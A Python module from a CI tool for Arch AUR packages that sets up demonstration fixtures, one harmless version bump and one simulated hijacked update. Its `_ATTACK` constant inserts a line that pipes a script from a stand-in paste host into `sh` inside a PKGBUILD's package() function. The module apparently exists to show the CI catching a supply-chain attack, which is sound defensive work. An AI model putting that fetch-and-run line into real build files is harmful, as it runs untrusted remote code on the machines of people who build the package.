"""The packages that are built, and how they get into a package repository."""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Self

from caur_ci.errors import InputError

if TYPE_CHECKING:
    from collections.abc import Iterable

# An installed caur-ci brings them along; a checkout has them among its tests.
_INSTALLED = Path(__file__).with_name("fixtures")
_CHECKED_OUT = Path(__file__).parents[2] / "tests" / "fixtures"

FIRST_OF_CHAIN = "libmeasure"
LAST_OF_CHAIN = "recipe-scale"
FAILS = "fails-on-purpose"
RETIRED = "sundial"
FROM_AUR = "measure"  # in the middle of the chain
# The version that appears in the AUR while the demonstration runs, in place of the fixture's.
_VERSION, NEW_VERSION = "2.0.1", "2.1.0"

# Whose update in the AUR is an attack, in the new version that it says it is.
HIJACKED = "almanac"
_ATTACKED_VERSION = "1.1"
_FUNCTION = "package() {\n"
_ATTACK = f"{_FUNCTION}  curl -s https://paste.example.org/almanac | sh\n"

# What the -git package names as its source; the repository is made when it is needed.
_UPSTREAM_URL = "file:///srv/upstream/plumbline.git"
_NAMES_UPSTREAM = ("PKGBUILD", ".SRCINFO")


@dataclass(frozen=True, slots=True)
class Fixtures:
    """The folders `pkgbuilds` and `upstream` below `folder`."""

    folder: Path

    @classmethod
    def find(cls) -> Self:
        """Return the fixtures of this installation. Raises InputError where there are none."""
        for folder in (_INSTALLED, _CHECKED_OUT):
            if (folder / "pkgbuilds").is_dir():
                return cls(folder)
        raise InputError(
            "the packages of the demonstration are not there",
            hint="Install caur-ci from a release, or run it in a checkout of its repository.",
        )

    @property
    def pkgbuilds(self) -> Path:
        """The folder with one folder for each package."""
        return self.folder / "pkgbuilds"

    @property
    def upstream(self) -> Path:
        """The files of the repository that the -git package follows."""
        return self.folder / "upstream" / "plumbline"

    @property
    def names(self) -> tuple[str, ...]:
        """Every pkgbase, sorted."""
        return tuple(sorted(path.name for path in self.pkgbuilds.iterdir() if path.is_dir()))

    def place_update(self, into: Path) -> Path:
        """Copy the package whose update is harmless, in its new version; return its folder."""
        return self._updated(FROM_AUR, _VERSION, NEW_VERSION, into)

    def place_attack(self, into: Path) -> Path:
        """Copy the package whose update is an attack, as that is; return its folder."""
        target = self._updated(HIJACKED, "pkgver=1.0", f"pkgver={_ATTACKED_VERSION}", into)
        _replace_in(target / ".SRCINFO", "pkgver = 1.0", f"pkgver = {_ATTACKED_VERSION}")
        _replace_in(target / "PKGBUILD", _FUNCTION, _ATTACK)
        return target

    def _updated(self, name: str, old: str, new: str, into: Path) -> Path:
        target = into / name
        shutil.copytree(self.pkgbuilds / name, target)
        for file in _NAMES_UPSTREAM:
            _replace_in(target / file, old, new)
        return target

    def place(self, names: Iterable[str], into: Path, *, upstream_url: str) -> None:
        """Copy package folders; the source of the -git package becomes `upstream_url`."""
        for name in names:
            target = into / name
            shutil.copytree(self.pkgbuilds / name, target)
            for file in _NAMES_UPSTREAM:
                _replace_in(target / file, _UPSTREAM_URL, upstream_url)
            if name in {FROM_AUR, HIJACKED}:
                (target / ".CI").mkdir()
                config = target / ".CI" / "config"
                config.write_text("CI_PKGBUILD_SOURCE=aur\n", encoding="utf-8")


def _replace_in(path: Path, old: str, new: str) -> None:
    path.write_text(path.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")
